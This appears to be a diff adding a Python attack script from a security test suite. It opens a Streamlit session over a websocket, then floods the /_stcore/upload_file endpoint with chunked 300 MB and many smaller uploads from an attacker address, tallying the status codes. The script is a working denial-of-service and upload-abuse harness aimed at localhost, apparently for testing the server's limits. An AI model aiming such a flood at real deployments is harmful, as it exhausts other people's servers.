@@ -1,0 +1,74 @@
+"""Files of 300 MB that a stranger sends to Streamlit's upload address, in a page's session that a browser opened."""
+
+import asyncio
+import time
+from collections import Counter
+
+from streamlit.proto.BackMsg_pb2 import BackMsg
+from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
+from websockets.asyncio.client import connect
+
+from scripts.attacks.target import ATTACKER, Target, counted, run
+
+SIZE, PIECE = 300_000_000, 1_000_000
+FILES = 60
+SMALL = 900_000
+
+
+async def _session(port: int) -> tuple[str, object]:
+    """A stranger's session: its id stands in the first message, as a browser gets it."""
+    socket = await connect(f"ws://127.0.0.1:{port}/_stcore/stream", subprotocols=["streamlit"], origin=f"http://127.0.0.1:{port}", max_size=None)
+    hello = BackMsg()
+    hello.rerun_script.query_string = ""
+    await socket.send(hello.SerializeToString())
+    while True:
+        message = ForwardMsg()
+        message.ParseFromString(await asyncio.wait_for(socket.recv(), 10))
+        if message.WhichOneof("type") == "new_session":
+            return message.new_session.initialize.session_id, socket
+
+
+async def put(port: int, session: str, number: int, size: int) -> tuple[int, int]:
+    """The status, and the bytes that were sent."""
+    reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(ATTACKER, 0))
+    head = b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\n'
+    tail = b"\r\n--x--\r\n"
+    writer.write(
+        f"PUT /_stcore/upload_file/{session}/{number:08}-0000-4000-8000-000000000000 HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
+        f"Content-Type: multipart/form-data; boundary=x\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
+    )
+    answer, sent = asyncio.create_task(reader.read(12)), 0
+    try:
+        async with asyncio.timeout(30):
+            while sent < size and not answer.done():
+                piece = (head if not sent else b"").ljust(min(PIECE, size), b"a")
+                writer.write(b"%x\r\n%s\r\n" % (len(piece), piece))
+                await writer.drain()
+                sent += len(piece)
+                await asyncio.sleep(0)
+            if sent >= size:
+                writer.write(b"%x\r\n%s\r\n0\r\n\r\n" % (len(tail), tail))
+            return int((await answer)[9:12] or 0), sent
+    except (OSError, TimeoutError):
+        return 0, sent
+    finally:
+        answer.cancel()
+        writer.transport.abort()
+
+
+async def attack(target: Target, seconds: float) -> str:
+    session, socket = await _session(target.port)
+    large, small, until = Counter(), Counter(), time.monotonic() + seconds
+    _, taken = 0, 0
+    for number in range(2):
+        status, sent = await put(target.port, session, number, SIZE)
+        large[status], taken = large[status] + 1, max(taken, sent)
+    for number in range(FILES):
+        if time.monotonic() < until:
+            small[(await put(target.port, session, 100 + number, SMALL))[0]] += 1
+    await socket.close()
+    return f"of {SIZE / 1e6:.0f} MB: {counted(large)} ({taken / 1e6:,.0f} MB taken); files of {SMALL / 1e6:.1f} MB: {counted(small)}"
+
+
+if __name__ == "__main__":
+    run("uploads of strangers", __doc__, attack)
